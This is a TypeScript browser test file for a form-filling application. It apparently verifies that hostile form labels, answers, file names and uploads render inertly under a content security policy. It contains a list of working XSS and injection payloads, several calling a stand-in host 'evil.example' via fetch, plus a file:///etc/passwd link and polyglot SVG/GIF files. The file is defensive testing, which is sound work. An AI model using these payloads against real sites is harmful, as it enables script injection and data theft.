/**
 * T19: what strangers write into forms, answers, file names and attachments, shown in real Chromium under the policy of the
 * program. Nothing runs (the policy would report it, and a mark would be set), nothing is asked for from anywhere, and no link
 * leads to anything but a web page.
 */
import type { Page } from '@playwright/test'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { utf8 } from '../../../src/shared/bytes.ts'
import { withFiles } from '../../../src/shared/forms/form-files.ts'
import { readForm } from '../../../src/shared/forms/read-form.ts'
import { valuesOf, type FieldValue } from '../../../src/shared/forms/values.ts'
import { escapeXml } from '../../../src/shared/forms/xml.ts'
import { openForm, openHarness, type HarnessPages } from './harness-page.ts'
import type { Harness } from './harness/main.tsx'

const RUN = 'window.ran=1;fetch(`https://evil.example/`)'
const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<iframe src="https://evil.example/" srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">press</a>`,
  `[press](javascript:${RUN})`,
  `[press](JaVaScRiPt:${RUN})`,
  '[press](file:///etc/passwd)',
  '[press](smb://evil.example/share)',
  '[press](data:text/html,<script>window.ran=1</script>)',
  '[press](vbscript:x)',
  '[press](//evil.example/)',
  '[press](ms-msdt:/id)',
  `![x](https://evil.example/pixel.png)`,
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/b.css"; body{background:url(https://evil.example/c.png)}</style>',
  '<span style="background:url(https://evil.example/d.png)">styled</span>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus>press</button></form>',
  '<object data="https://evil.example/e.swf"></object><embed src="https://evil.example/f">',
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${RUN}>">`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= x %>`,
  '\u202Egnp.exe\u202C "><b>bold</b>',
  '*'.repeat(2000) + '[('.repeat(500)
]

const BYTES: Readonly<Record<string, string>> = {
  'page.html': `<!doctype html><script>${RUN}</script>`,
  'drawn.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script><image href="https://evil.example/g.png"/><foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>`,
  'both.gif': `GIF89a/*${RUN}*/=1;${RUN}`,
  'evil"><img src=x onerror=window.ran=1>.png': 'not a picture',
  'song.mp3': 'ID3 not a song',
  'film.mp4': '\u0000\u0000\u0000\u0018ftypisom not a film'
}

const names = HOSTILE.map((_, at) => `q${at}`)
const form = withFiles(
  `<h:html xmlns="http://www.w3.org/2002/xforms" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:jr="http://openrosa.org/javarosa"><h:head>
<h:title>${escapeXml(HOSTILE[0]!)}</h:title><model>
<itext><translation lang="&lt;img src=x onerror=window.ran=1&gt;" default="true()"><text id="drawn"><value>${escapeXml(HOSTILE[1]!)}</value><value form="image">jr://images/drawn.svg</value><value form="audio">jr://audio/https://evil.example/h.mp3</value><value form="video">https://evil.example/i.mp4</value></text></translation></itext>
<instance><data id="hostile" version="1">${names.map(name => `<${name}/><s${name}/><n${name}/>`).join('')}${Object.keys(BYTES)
    .map((_, at) => `<f${at}/>`)
    .join('')}<drawn/><meta><instanceID/></meta></data></instance>
<instance id="choices"><root>${HOSTILE.map((text, at) => `<item><name>c${at}</name><label>${escapeXml(text)}</label></item>`).join('')}</root></instance>
${names.map(name => `<bind nodeset="/data/${name}" type="string" constraint=". != 'x'" jr:constraintMsg="${escapeXml(HOSTILE[1]!)}"/><bind nodeset="/data/n${name}" type="string" readonly="true()"/>`).join('')}
${Object.keys(BYTES)
  .map((_, at) => `<bind nodeset="/data/f${at}" type="binary"/>`)
  .join('')}
</model></h:head><h:body>
<input ref="/data/drawn"><label ref="jr:itext('drawn')"/></input>
${names.map((name, at) => `<input ref="/data/${name}"${at % 3 === 0 ? ' appearance="url"' : ''}><label>${escapeXml(HOSTILE[at]!)}</label><hint>${escapeXml(HOSTILE[at]!)}</hint></input><input ref="/data/n${name}"><label>${escapeXml(HOSTILE[at]!)}</label></input>`).join('')}
${names
  .slice(0, 4)
  .map(
    (name, at) =>
      `<select1 ref="/data/s${name}" appearance="${['', 'minimal', 'autocomplete', 'likert'][at]}"><label>List</label><itemset nodeset="instance('choices')/root/item"><value ref="name"/><label ref="label"/></itemset></select1>`
  )
  .join('')}
${Object.keys(BYTES)
  .map((_, at) => `<upload ref="/data/f${at}" mediatype="application/*"><label>File</label></upload>`)
  .join('')}
</h:body></h:html>`,
  [{ name: 'drawn.svg', bytes: utf8(BYTES['drawn.svg']!) }]
)

let pages: HarnessPages
let page: Page
let complaints: string[]
const asked: string[] = []
beforeAll(async () => {
  pages = await openHarness()
  ;({ page, complaints } = await pages.page())
  const own = new URL(page.url()).origin
  page.on('request', request => {
    if (!request.url().startsWith(own) && !request.url().startsWith('blob:') && !request.url().startsWith('data:')) asked.push(request.url())
  })
  page.on('popup', popup => asked.push(popup.url()))
  page.on('framenavigated', frame => asked.push(frame.url()))
  page.on('dialog', dialog => {
    asked.push(dialog.message())
    void dialog.dismiss()
  })
}, 120_000)
afterAll(() => pages.close())

/** No script of a stranger ran, nothing was asked for, and every link leads to the web or nowhere. */
async function requireHarmless(): Promise<void> {
  expect(asked).toEqual([])
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBe(undefined)
  // A refusal by the policy would mean that something got as far as being refused.
  expect(complaints.filter(one => /Content Security Policy|Refused|evil\.example/i.test(one))).toEqual([])
  const made = await page.locator('#root').evaluate(root => ({
    strange: [...root.querySelectorAll('script, iframe, object, embed, link, meta, base, style, foreignObject')].map(element => element.outerHTML),
    handlers: [...root.querySelectorAll('*')]
      .filter(element => element.getAttributeNames().some(name => name.startsWith('on') || name === 'style'))
      .map(element => element.outerHTML),
    links: [...root.querySelectorAll('a')].map(link => link.href).filter(link => !/^https?:\/\//.test(link)),
    sources: [...root.querySelectorAll<HTMLImageElement>('[src]')].map(element => element.src).filter(source => !source.startsWith('blob:'))
  }))
  expect(made).toEqual({ strange: [], handlers: [], links: [], sources: [] })
}

it('labels, hints, choices, languages, messages and pictures of a hostile form are shown and do nothing', async () => {
  await openForm(page, { xml: form })
  for (const name of names) await page.locator(`[data-path="/data/${name}"]`).locator('input').fill('x')
  await page.getByRole('button', { name: 'Check for errors' }).click()
  await page
    .locator('.mun-entry-label-image')
    .first()
    .evaluate((image: HTMLImageElement) => image.decode().catch(() => undefined))
  await page.locator('.mun-search [role=combobox]').first().click()
  await page.locator('.mun-search [role=option]').first().waitFor()
  await requireHarmless()
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Show one question at a time' }).click()
  for (let step = 0; step < 12; step++) await page.getByRole('button', { name: 'Next' }).click()
  await requireHarmless()
  await page.getByRole('button', { name: 'Show the whole form' }).click()
})

it('hostile answers and files do nothing while they are entered, nor when the record is looked at', async () => {
  await openForm(page, { xml: form })
  for (const [at, name] of names.entries()) await page.locator(`[data-path="/data/${name}"]`).locator('input').fill(HOSTILE[at]!)
  for (const [at, [name, content]] of Object.entries(BYTES).entries()) {
    const field = page.locator(`[data-path="/data/f${at}"]`)
    await field.locator('input[type=file]').setInputFiles({ name, mimeType: 'text/html', buffer: Buffer.from(content, 'latin1') })
    await field
      .getByText(/is not shown here|Picture/)
      .or(field.locator('img, audio, video'))
      .first()
      .waitFor()
  }
  expect(await page.locator('[data-path="/data/f0"] :is(img, audio, video), [data-path="/data/f1"] :is(img, audio, video)').count()).toBe(0)
  await requireHarmless()
  await page.getByRole('button', { name: 'File this record' }).click()
  await expect.poll(() => page.evaluate(() => (window as unknown as { harness: Harness }).harness.filed === null)).toBe(false)
  const xml = await page.evaluate(() => (window as unknown as { harness: Harness }).harness.filed!.instanceXml)
  const values = valuesOf(xml, readForm(form), {
    attachment: name => ({ name, type: name.endsWith('.svg') ? 'image/svg+xml' : 'image/png', size: 1, sha256: 'a', chunks: 'b' })
  })
  const kept = values.filter(([path]) => /^\/data\/q\d+$/.test(path)).map(([, value]) => value)
  expect(new Set(kept)).toEqual(new Set(HOSTILE))
  await page.evaluate(given => (window as unknown as { harness: Harness }).harness.show(given), { xml: form, values: values as FieldValue[] })
  await page.locator('.mun-values').waitFor()
  await page.locator('.mun-values .usa-hint, .mun-values img').first().waitFor()
  await requireHarmless()
})
